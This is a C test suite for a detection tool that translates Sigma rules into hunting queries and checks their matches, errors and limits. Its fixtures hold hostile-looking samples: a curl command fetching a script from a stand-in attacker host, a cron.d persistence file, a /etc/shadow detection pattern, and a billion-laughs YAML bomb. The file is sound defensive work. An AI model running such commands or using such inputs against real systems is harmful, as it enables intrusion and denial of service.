// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sigma rules to vigil rules (hunt/sigma.c): each modifier and condition
 * form translated and the query run on a real store with rows that match
 * and rows that nearly do; errors at their FILE:LINE:COL; YAML built to
 * hurt (alias bombs, deep nesting, huge values) refused within the limits;
 * `vigil rules import-sigma` writing all or nothing.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "fmt.h"
#include "hunt.h"
#include "sigma.h"
#include "store.h"

static char dir[64], dbpath[128];
static struct vg_store *st;
static sqlite3 *db;

static void exec_sql(const char *sql)
{
	char *msg = NULL;

	cr_assert_eq(sqlite3_exec(db, sql, NULL, NULL, &msg), SQLITE_OK, "%s: %s", sql, msg);
}

static void setup(void)
{
	strcpy(dir, "/tmp/vigil-sigma-XXXXXX");
	cr_assert_not_null(mkdtemp(dir));
	snprintf(dbpath, sizeof(dbpath), "%s/t.db", dir);
	cr_assert_eq(vg_store_open(&st, dbpath), 0);
	db = vg_store_db(st);
	exec_sql(
		"INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId,"
		" FileName, FolderPath, ProcessId, ProcessCommandLine, AccountName,"
		" InitiatingProcessFolderPath, InitiatingProcessCommandLine) VALUES"
		" ('2026-01-01T00:00:01.000Z', 1, 'ProcessCreated', 1, 'base64', '/usr/bin/base64',"
		"  101, 'base64 -d /tmp/p', 'root', '/usr/bin/bash', 'bash -c x'),"
		" ('2026-01-01T00:00:02.000Z', 1, 'ProcessCreated', 2, 'base64', '/usr/bin/base64',"
		"  102, 'base64 --help', 'alice', '/usr/bin/bash', 'bash'),"
		" ('2026-01-01T00:00:03.000Z', 1, 'ProcessCreated', 3, 'Curl', '/opt/X/Curl',"
		"  103, 'Curl -s HTTP://Evil.example/a.SH', 'alice', '/usr/bin/dash', 'sh -c y'),"
		" ('2026-01-01T00:00:04.000Z', 1, 'ProcessTerminated', 4, 'base64', '/usr/bin/base64',"
		"  101, 'base64 -d /tmp/p', 'root', '/usr/bin/bash', 'bash -c x'),"
		" ('2026-01-01T00:00:05.000Z', 1, 'ProcessCreated', 5, 'a*b', '/tmp/a*b',"
		"  105, 'a?b \\x', 'bob', '/usr/bin/zsh', NULL)");
	exec_sql(
		"INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId,"
		" RemoteIP, RemotePort, LocalIP, LocalPort, Protocol) VALUES"
		" ('2026-01-01T00:00:06.000Z', 1, 'ConnectionSuccess', 6, '10.9.8.7', 4444,"
		"  '192.168.1.2', 50000, 'Tcp'),"
		" ('2026-01-01T00:00:07.000Z', 1, 'ConnectionSuccess', 7, '11.9.8.7', 4444,"
		"  '192.168.1.2', 50001, 'Tcp'),"
		" ('2026-01-01T00:00:08.000Z', 1, 'ListeningConnectionCreated', 8, '10.0.0.1', 4444,"
		"  '10.0.0.1', 4444, 'Tcp'),"
		" ('2026-01-01T00:00:09.000Z', 1, 'ConnectionAttempt', 9, '10.1.1.1', 80,"
		"  '192.168.1.2', 0, 'Udp')");
	exec_sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId,"
		 " FileName, FolderPath, InitiatingProcessFolderPath) VALUES"
		 " ('2026-01-01T00:00:10.000Z', 1, 'FileCreated', 10, 'evil', '/etc/cron.d/evil',"
		 "  '/usr/bin/bash'),"
		 " ('2026-01-01T00:00:11.000Z', 1, 'FileDeleted', 11, 'evil', '/etc/cron.d/evil',"
		 "  '/usr/bin/rm'),"
		 " ('2026-01-01T00:00:12.000Z', 1, 'FileCreated', 12, 'x', '/etc/cron.daily/x',"
		 "  '/usr/bin/dpkg')");
}

static void teardown(void)
{
	char cmd[160];

	vg_store_close(st);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	system(cmd);
}

TestSuite(sigma, .init = setup, .fini = teardown);

/* A Sigma rule of the given logsource category and detection (indented 4). */
static char *sigma_doc(const char *category, const char *detection)
{
	char *s = NULL;

	cr_assert_gt(asprintf(&s,
			      "title: Test rule\n"
			      "id: 00000000-0000-4000-8000-000000000000\n"
			      "status: test\n"
			      "tags:\n"
			      "    - attack.execution\n"
			      "    - attack.t1059.004\n"
			      "logsource:\n"
			      "    product: linux\n"
			      "    category: %s\n"
			      "detection:\n"
			      "%s"
			      "level: medium\n",
			      category, detection),
		     0);
	return s;
}

/* Translate text: the rule file's text, or NULL with the errors in *errs. */
static char *translate(const char *text, char **errs)
{
	struct vg_sb out, e;
	int err;
	char *r;

	vg_sb_init(&out);
	vg_sb_init(&e);
	err = vg_sigma_translate("r.yml", text, strlen(text), &out, &e);
	if (errs)
		*errs = strdup(vg_sb_str(&e) ?: "");
	r = err ? NULL : strdup(vg_sb_str(&out));
	cr_assert(err || r);
	if (!err)
		cr_assert_eq(e.len, 0);
	else
		cr_assert_eq(out.len, 0, "output on error: %s", vg_sb_str(&out));
	vg_sb_free(&out);
	vg_sb_free(&e);
	return r;
}

/* The ReportIds the translated rule's query returns, comma-separated. */
static char *run_rule(const char *rule)
{
	const char *q = strstr(rule, "\nquery:\n");
	char *text, *out = NULL, *err = NULL, *ids;
	size_t ol = 0, el = 0;
	FILE *fo, *fe;
	long n;

	cr_assert_not_null(q, "no query in:\n%s", rule);
	cr_assert_gt(asprintf(&text, "%s| project ReportId", q + 8), 0);
	fo = open_memstream(&out, &ol);
	fe = open_memstream(&err, &el);
	n = vg_hunt_run(db, text, "q", VG_HUNT_CSV, fo, fe);
	fclose(fo);
	fclose(fe);
	cr_assert_geq(n, 0, "query failed:\n%s\n%s", text, err);
	ids = calloc(1, strlen(out) + 1);
	for (char *line = strchr(out, '\n'); line && line[1]; line = strchr(line + 1, '\n')) {
		size_t l = strcspn(line + 1, "\r\n");

		strcat(ids, *ids ? "," : "");
		strncat(ids, line + 1, l);
	}
	free(text);
	free(out);
	free(err);
	return ids;
}

/* The detection translates and its query returns exactly want_ids (ReportIds). */
static void expect_ids(const char *category, const char *detection, const char *want_where,
		       const char *want_ids)
{
	char *doc = sigma_doc(category, detection), *errs, *rule = translate(doc, &errs), *ids;

	cr_assert_not_null(rule, "translation failed:\n%s\n%s", doc, errs);
	if (want_where)
		cr_expect_not_null(strstr(rule, want_where), "want '%s' in:\n%s", want_where, rule);
	ids = run_rule(rule);
	cr_expect_str_eq(ids, want_ids, "rule:\n%s", rule);
	free(ids);
	free(rule);
	free(errs);
	free(doc);
}

/* text fails to translate with errs starting with "r.yml:where". */
static void expect_fail(const char *text, const char *where)
{
	char *errs, *rule = translate(text, &errs), want[512];

	cr_assert_null(rule, "should fail:\n%s\ngot:\n%s", text, rule);
	snprintf(want, sizeof(want), "r.yml:%s", where);
	cr_expect_eq(strncmp(errs, want, strlen(want)), 0, "want '%s...', got '%s'", want, errs);
	free(errs);
}

static void expect_fail_det(const char *category, const char *detection, const char *where)
{
	char *doc = sigma_doc(category, detection);

	expect_fail(doc, where);
	free(doc);
}

Test(sigma, header)
{
	char *doc = sigma_doc("process_creation", "    sel:\n        Image: '/usr/bin/base64'\n"
						  "    condition: sel\n"),
	     *rule = translate(doc, NULL);

	cr_assert_not_null(rule);
	cr_expect_str_eq(rule, "# Imported from a Sigma rule (vigil rules import-sigma): r.yml\n"
			       "# Sigma id: 00000000-0000-4000-8000-000000000000\n"
			       "title: Test rule\n"
			       "severity: Medium\n"
			       "category: Execution\n"
			       "mitre: T1059.004\n"
			       "query:\n"
			       "DeviceProcessEvents\n"
			       "| where ActionType == \"ProcessCreated\"\n"
			       "| where FolderPath =~ \"/usr/bin/base64\"\n");
	free(rule);
	free(doc);
	/* level to severity, the first tactic to the category, techniques in order */
	rule = translate("title: \"Two\\tlines\\n\"\n"
			 "description: |\n  first\n  second\n"
			 "tags: [attack.t1003, attack.credential-access, attack.persistence,"
			 " attack.T1552.004, cve.2021-1234]\n"
			 "logsource: {category: file_event}\n"
			 "detection: {s: {TargetFilename: /etc/shadow}, condition: s}\n"
			 "level: critical\n",
			 NULL);
	cr_assert_not_null(rule);
	cr_expect_not_null(strstr(rule, "\ntitle: Two lines\nseverity: High\n"
					"category: CredentialAccess\nmitre: T1003, T1552.004\n"
					"description: first second\nquery:\n"),
			   "%s", rule);
	free(rule);
}

Test(sigma, plain_values_lists_and_wildcards)
{
	/* ProcessTerminated (4) is not a process creation */
	expect_ids("process_creation",
		   "    sel:\n        Image: /USR/BIN/BASE64\n    condition: sel\n",
		   "FolderPath =~ \"/USR/BIN/BASE64\"", "1,2");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine:\n            - base64 --HELP\n"
		   "            - nothing\n            - 'curl *'\n            - 3\n"
		   "    condition: sel\n",
		   "(ProcessCommandLine in~ (\"base64 --HELP\", \"nothing\") or"
		   " ProcessCommandLine startswith \"curl \" or ProcessCommandLine == 3)",
		   "2,3");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine: '*evil.EXAMPLE*'\n    condition: sel\n",
		   "ProcessCommandLine contains \"evil.EXAMPLE\"", "3");
	expect_ids("process_creation", "    sel:\n        Image: '*/curl'\n    condition: sel\n",
		   "FolderPath endswith \"/curl\"", "3");
	/* an inner wildcard is a regular expression, anchored, case-insensitive */
	expect_ids("process_creation",
		   "    sel:\n        CommandLine: 'curl*http://*.sh'\n    condition: sel\n",
		   "ProcessCommandLine matches regex \"(?i)^curl.*http://.*\\\\.sh$\"", "3");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine: 'base64 -? /tmp/?'\n    condition: sel\n", NULL,
		   "1");
	/* \* and \? are the characters; \\ is a backslash */
	expect_ids("process_creation",
		   "    sel:\n        Image: '/tmp/a\\*b'\n    condition: sel\n",
		   "FolderPath =~ \"/tmp/a*b\"", "5");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine: 'a\\?b \\\\x'\n    condition: sel\n",
		   "ProcessCommandLine =~ \"a?b \\\\x\"", "5");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine: 'a?b*'\n    condition: sel\n", NULL, "5");
	/* null: the column empty; '*': any value */
	expect_ids("process_creation",
		   "    sel:\n        ParentCommandLine: null\n    condition: sel\n",
		   "isempty(InitiatingProcessCommandLine)", "5");
	expect_ids("process_creation",
		   "    sel:\n        ParentCommandLine: '*'\n    condition: sel\n",
		   "isnotempty(InitiatingProcessCommandLine)", "1,2,3");
}

Test(sigma, modifiers)
{
	expect_ids(
		"process_creation",
		"    sel:\n        CommandLine|contains: ' -D '\n        Image|endswith: /base64\n"
		"    condition: sel\n",
		"(ProcessCommandLine contains \" -D \" and FolderPath endswith \"/base64\")", "1");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|startswith:\n            - 'curl '\n"
		   "            - 'base64 --'\n    condition: sel\n",
		   NULL, "2,3");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|contains|all:\n            - http\n"
		   "            - '.sh'\n    condition: sel\n",
		   "(ProcessCommandLine contains \"http\" and ProcessCommandLine contains \".sh\")",
		   "3");
	/* cased: exact case */
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|contains|cased: 'Evil'\n    condition: sel\n",
		   "ProcessCommandLine contains_cs \"Evil\"", "3");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|contains|cased: 'evil'\n    condition: sel\n",
		   NULL, "");
	expect_ids("process_creation",
		   "    sel:\n        Image|cased: '/opt/x/curl'\n    condition: sel\n",
		   "FolderPath == \"/opt/x/curl\"", "");
	/* re, and re|i */
	expect_ids(
		"process_creation",
		"    sel:\n        CommandLine|re: '^base64 +-(d|-decode)'\n    condition: sel\n",
		"ProcessCommandLine matches regex \"^base64 +-(d|-decode)\"", "1");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|re: 'HTTP://evil'\n    condition: sel\n", NULL,
		   "");
	expect_ids("process_creation",
		   "    sel:\n        CommandLine|re|i: 'HTTP://evil'\n    condition: sel\n",
		   "matches regex \"(?i)HTTP://evil\"", "3");
	/* cidr, numbers, comparisons */
	expect_ids(
		"network_connection",
		"    sel:\n        DestinationIp|cidr: 10.0.0.0/8\n        DestinationPort: 4444\n"
		"    condition: sel\n",
		"(ipv4_is_in_range(RemoteIP, \"10.0.0.0/8\") and RemotePort == 4444)", "6");
	expect_ids("network_connection",
		   "    sel:\n        SourcePort|gte: 50001\n    condition: sel\n",
		   "LocalPort >= 50001", "7");
	/* a quoted number is a number in a column of numbers, text elsewhere */
	expect_ids("network_connection",
		   "    sel:\n        DestinationPort:\n            - '04444'\n            - '80'\n"
		   "    condition: sel\n",
		   "(RemotePort == 4444 or RemotePort == 80)", "6,7,9");
	expect_ids("process_creation", "    sel:\n        CommandLine: '3'\n    condition: sel\n",
		   "ProcessCommandLine =~ \"3\"", "");
	expect_ids(
		"network_connection",
		"    sel:\n        SourcePort|lt: 50000\n        Protocol: udp\n    condition: sel\n",
		NULL, "9");
	/* exists */
	expect_ids("process_creation",
		   "    sel:\n        ParentCommandLine|exists: false\n    condition: sel\n",
		   "isempty(InitiatingProcessCommandLine)", "5");
	/* the file categories */
	expect_ids("file_event",
		   "    sel:\n        TargetFilename|startswith: /etc/cron.\n    condition: sel\n",
		   "| where ActionType in (\"FileCreated\", \"FileModified\", \"FileRenamed\")",
		   "10,12");
	expect_ids("file_delete",
		   "    sel:\n        TargetFilename|startswith: /etc/cron.\n    condition: sel\n",
		   "| where ActionType == \"FileDeleted\"", "11");
}

Test(sigma, conditions)
{
	static const char sels[] =
		"    sel_img:\n        Image|endswith: /base64\n"
		"    sel_cli:\n        CommandLine|contains: ' -d '\n"
		"    filter_root:\n        User: root\n"
		"    other:\n        - ParentImage|endswith: /dash\n        - User: bob\n";
	char det[1024];

	snprintf(det, sizeof(det), "%s    condition: sel_img and not filter_root\n", sels);
	expect_ids("process_creation", det,
		   "FolderPath endswith \"/base64\" and not(AccountName =~ \"root\")", "2");
	snprintf(det, sizeof(det), "%s    condition: all of sel_*\n", sels);
	expect_ids("process_creation", det, NULL, "1");
	snprintf(det, sizeof(det), "%s    condition: 1 of sel_* and not 1 of filter*\n", sels);
	expect_ids("process_creation", det, NULL, "2");
	/* a list of mappings: any of them */
	snprintf(det, sizeof(det), "%s    condition: other\n", sels);
	expect_ids("process_creation", det,
		   "(InitiatingProcessFolderPath endswith \"/dash\" or AccountName =~ \"bob\")",
		   "3,5");
	snprintf(det, sizeof(det), "%s    condition: 1 of them\n", sels);
	expect_ids("process_creation", det, NULL, "1,2,3,5");
	snprintf(det, sizeof(det), "%s    condition: all of them\n", sels);
	expect_ids("process_creation", det, NULL, "");
	/* precedence: not over and over or; parentheses */
	snprintf(det, sizeof(det), "%s    condition: other or sel_img and not sel_cli\n", sels);
	expect_ids("process_creation", det, NULL, "2,3,5");
	snprintf(det, sizeof(det),
		 "%s    condition: (other or sel_img) and not (sel_cli or filter_root)\n", sels);
	expect_ids("process_creation", det, NULL, "2,3,5");
	snprintf(det, sizeof(det), "%s    condition: not not sel_cli\n", sels);
	expect_ids("process_creation", det, NULL, "1");
	/* ? and * in a name pattern; a * that must give back what it took */
	snprintf(det, sizeof(det), "%s    condition: 1 of ?el_i*g and 1 of *_*l*\n", sels);
	expect_ids("process_creation", det, NULL, "1");
	snprintf(det, sizeof(det), "%s    condition: 1 of s*l*i\n", sels);
	expect_ids("process_creation", det, NULL, "1");
}

/*
 * Name patterns with many stars against a long name: each star tried at
 * every split took exponential time (fuzz_sigma's timeout); this one did
 * not finish in minutes, and must still match or not exactly.
 */
Test(sigma, name_pattern_with_many_stars)
{
	static const char sel[] = "    aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:\n"
				  "        Image|endswith: /base64\n";
	char det[1024];

	snprintf(det, sizeof(det),
		 "%s    condition: 1 of *a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*ab\n", sel);
	expect_fail_det("process_creation", det,
			"13:21: no selection matches '*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*ab'");
	snprintf(det, sizeof(det),
		 "%s    condition: 1 of *a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a\n", sel);
	expect_ids("process_creation", det, "FolderPath endswith \"/base64\"", "1,2");
}

/* What has no translation: an error at its line and column, nothing written. */
Test(sigma, errors_name_file_line_col)
{
	expect_fail_det("process_creation", "    sel:\n        Hashes: x\n    condition: sel\n",
			"12:9: field 'Hashes' has no column");
	expect_fail_det("process_creation",
			"    sel:\n        Image|base64offset|contains: x\n    condition: sel\n",
			"12:15: unsupported modifier 'base64offset'");
	expect_fail_det("process_creation",
			"    sel:\n        Image|contains|endswith: x\n    condition: sel\n",
			"12:9: modifiers of 'Image|contains|endswith' that do not go together");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    condition: sel | count() by User > 4\n",
			"13:20: aggregations");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    condition: sel and nosuch\n",
			"13:24: no selection named 'nosuch'");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    condition: '(sel or sel'\n",
			"13:28: expected ')'");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    condition: 1 of filter_*\n",
			"13:21: no selection matches 'filter_*'");
	expect_fail_det("process_creation", "    sel:\n        Image: x\n    condition: sel and\n",
			"13:23: condition ends too early");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    condition:\n        - sel\n",
			"14:9: a list of conditions");
	expect_fail_det("process_creation",
			"    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel\n",
			"13:16: 'timeframe'");
	expect_fail_det("process_creation",
			"    keywords:\n        - 'evil'\n    condition: keywords\n",
			"12:11: keyword searches");
	expect_fail_det("process_creation",
			"    sel:\n        CommandLine|re: '(?<=x)y'\n    condition: sel\n",
			"12:25: unsupported group");
	expect_fail_det("network_connection",
			"    sel:\n        DestinationIp|cidr: 'fe80::/10'\n    condition: sel\n",
			"12:29: 'fe80::/10': IPv6 ranges are not supported");
	expect_fail_det("network_connection",
			"    sel:\n        DestinationIp|cidr: 10.0.0.0/40\n    condition: sel\n",
			"12:29: '10.0.0.0/40' is not an IPv4 range");
	expect_fail_det("network_connection",
			"    sel:\n        DestinationHostname: x\n    condition: sel\n",
			"12:9: field 'DestinationHostname' has no column");
	expect_fail_det("process_creation", "    sel:\n        Image: true\n    condition: sel\n",
			"12:16: a boolean value");
	expect_fail_det("process_creation",
			"    sel:\n        Image: \"a\\x01b\"\n    condition: sel\n",
			"12:16: a value holds the control character 0x01");
	expect_fail_det("image_load", "    sel:\n        ImageLoaded|gt: abc\n    condition: sel\n",
			"12:25: |gt takes a number");
	expect_fail_det("dns_query", "    sel:\n        QueryName: x\n    condition: sel\n",
			"9:15: logsource category 'dns_query' has no table");
	expect_fail(
		"title: x\ntags: [attack.t1059]\nlogsource: {product: windows, category: process_creation}\n"
		"detection: {s: {Image: x}, condition: s}\n",
		"3:22: logsource product 'windows'");
	expect_fail("title: x\ntags: [attack.t1059]\nlogsource: {service: auditd}\n"
		    "detection: {s: {Image: x}, condition: s}\n",
		    "3:22: logsource service 'auditd'");
	expect_fail("title: x\ntags: [attack.execution]\nlogsource: {category: process_creation}\n"
		    "detection: {s: {Image: x}, condition: s}\n",
		    "2:7: no ATT&CK technique tag");
	expect_fail("title: x\ntags: [attack.t1059]\nlogsource: {category: process_creation}\n"
		    "detection: {s: {Image: x}, condition: s}\nlevel: severe\n",
		    "5:8: 'level' must be");
	expect_fail("tags: [attack.t1059]\nlogsource: {category: process_creation}\n"
		    "detection: {s: {Image: x}, condition: s}\n",
		    "1:1: a Sigma rule needs a 'title'");
	expect_fail("title: x\ntitle: y\n", "2:1: key 'title' given twice (first at line 1)");
	expect_fail("title: x\n  - y: [\n", "2:");
	expect_fail("", "1:1: no Sigma rule");
	expect_fail("title: x\n---\ntitle: y\n", "2:1: a second YAML document");
	expect_fail("action: global\ntitle: x\n", "1:9: Sigma rule collections");
}

/* YAML built to exhaust the importer is refused within its limits. */
Test(sigma, hostile_yaml_is_refused_within_limits)
{
	struct vg_sb b;
	char *errs;

	/* the billion laughs: refused at the first anchor, nothing expanded */
	expect_fail("a: &a [x, x, x, x, x, x, x, x, x, x]\n"
		    "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
		    "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
		    "d: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n",
		    "1:4: YAML anchors (&a) are not accepted");
	expect_fail("title: x\ndetection: *nope\n", "2:12: YAML aliases (*nope)");
	/* deep nesting */
	vg_sb_init(&b);
	vg_sb_add(&b, "title: x\ndetection: ");
	for (int i = 0; i < 5000; i++)
		vg_sb_add(&b, "[");
	expect_fail(vg_sb_str(&b), "2:28: YAML nested deeper than 16 levels");
	vg_sb_reset(&b);
	vg_sb_add(&b, "title: x\ndetection:\n");
	for (int i = 0; i < 30; i++)
		vg_sb_printf(&b, "%*sk%d:\n", 2 * (i + 1), "", i);
	expect_fail(vg_sb_str(&b), "18:33: YAML nested deeper");
	/* a huge value */
	vg_sb_reset(&b);
	vg_sb_add(&b, "title: ");
	for (int i = 0; i < 20000; i++)
		vg_sb_add(&b, "A");
	vg_sb_add(&b, "\n");
	expect_fail(vg_sb_str(&b), "1:8: a value longer than 16384 bytes");
	/* too many nodes, and a file over the size limit */
	vg_sb_reset(&b);
	vg_sb_add(&b, "title: x\nlist: [");
	for (int i = 0; i < 25000; i++)
		vg_sb_add(&b, "1,");
	vg_sb_add(&b, "1]\n");
	expect_fail(vg_sb_str(&b), "2:");
	cr_assert_null(translate(vg_sb_str(&b), &errs));
	cr_expect_not_null(strstr(errs, "more than 20000 YAML nodes"), "%s", errs);
	free(errs);
	vg_sb_reset(&b);
	vg_sb_add(&b, "title: x\n");
	while (b.len <= VG_SIGMA_MAX_BYTES)
		vg_sb_add(&b, "# padding padding padding padding padding padding\n");
	expect_fail(vg_sb_str(&b), "1:1: larger than 262144 bytes");
	/* a condition naming a big selection again and again stops at the query's size */
	vg_sb_reset(&b);
	vg_sb_add(&b, "title: x\ntags: [attack.t1059]\nlogsource: {category: process_creation}\n"
		      "detection:\n  s:\n    CommandLine:\n");
	for (int i = 0; i < 400; i++)
		vg_sb_printf(&b, "      - '*%040d*'\n", i);
	vg_sb_add(&b, "  condition: s");
	for (int i = 0; i < 300; i++)
		vg_sb_add(&b, " or s");
	vg_sb_add(&b, "\n");
	cr_assert_null(translate(vg_sb_str(&b), &errs));
	cr_expect_not_null(strstr(errs, "the query would be longer than"), "%s", errs);
	free(errs);
	/* a NUL byte */
	{
		struct vg_sb out, e;

		vg_sb_init(&out);
		vg_sb_init(&e);
		cr_expect_eq(vg_sigma_translate("r.yml", "title: a\0b\n", 11, &out, &e), -EINVAL);
		cr_expect_str_eq(vg_sb_str(&e), "r.yml:1:1: holds a NUL byte\n");
		vg_sb_free(&out);
		vg_sb_free(&e);
	}
	vg_sb_free(&b);
}

static const char *vigil_bin(void)
{
	const char *v = getenv("VIGIL");

	return v && *v ? v : "build/vigil";
}

static void write_text(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	cr_assert_not_null(f, "%s", path);
	fputs(text, f);
	fclose(f);
}

/* Run cmd; its exit status, its stderr in err (size bytes). */
static int run_cmd(const char *cmd, char *err, size_t size)
{
	char full[2048], path[128];
	FILE *f;
	size_t n = 0;
	int rc;

	snprintf(path, sizeof(path), "%s/stderr", dir);
	snprintf(full, sizeof(full), "%s 2>%s", cmd, path);
	rc = system(full);
	f = fopen(path, "r");
	if (f) {
		n = fread(err, 1, size - 1, f);
		fclose(f);
	}
	err[n] = 0;
	return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

Test(sigma, cli_writes_all_or_nothing)
{
	char good[256], bad[256], out[256], cmd[1024], err[4096], *doc;
	int n = 0;
	FILE *ls;

	snprintf(good, sizeof(good), "%s/proc_b64.yml", dir);
	snprintf(bad, sizeof(bad), "%s/bad.yaml", dir);
	snprintf(out, sizeof(out), "%s/rules", dir);
	cr_assert_eq(mkdir(out, 0755), 0);
	doc = sigma_doc("process_creation", "    sel:\n        Image|endswith: /base64\n"
					    "    condition: sel\n");
	write_text(good, doc);
	free(doc);
	doc = sigma_doc("process_creation",
			"    sel:\n        Image|wide: x\n    condition: sel\n");
	write_text(bad, doc);
	free(doc);
	snprintf(cmd, sizeof(cmd), "%s rules import-sigma -o %s %s %s", vigil_bin(), out, good,
		 bad);
	cr_expect_eq(run_cmd(cmd, err, sizeof(err)), 1);
	cr_expect_not_null(strstr(err, "/bad.yaml:12:15: unsupported modifier 'wide'"), "%s", err);
	snprintf(cmd, sizeof(cmd), "ls -A %s", out);
	ls = popen(cmd, "r");
	while (fgets(err, sizeof(err), ls))
		n++;
	pclose(ls);
	cr_expect_eq(n, 0, "a file was written (or a staging directory left)");
	/* the good one alone: written, and `vigil host` loads it */
	snprintf(cmd, sizeof(cmd), "%s rules import-sigma -o %s %s", vigil_bin(), out, good);
	cr_expect_eq(run_cmd(cmd, err, sizeof(err)), 0, "%s", err);
	snprintf(cmd, sizeof(cmd), "%s/proc_b64.rule", out);
	cr_expect_eq(access(cmd, R_OK), 0);
	snprintf(cmd, sizeof(cmd), "ls -A %s | wc -l | grep -qx 1", out);
	cr_expect_eq(system(cmd), 0, "more than the rule in %s", out);
	/* usage errors */
	snprintf(cmd, sizeof(cmd), "%s rules import-sigma %s %s", vigil_bin(), good, good);
	cr_expect_eq(run_cmd(cmd, err, sizeof(err)), 2);
	snprintf(cmd, sizeof(cmd), "%s rules import-sigma", vigil_bin());
	cr_expect_eq(run_cmd(cmd, err, sizeof(err)), 2);
	snprintf(cmd, sizeof(cmd), "%s rules import-sigma %s/none.yml", vigil_bin(), dir);
	cr_expect_eq(run_cmd(cmd, err, sizeof(err)), 1);
	cr_expect_not_null(strstr(err, "none.yml: No such file"), "%s", err);
}
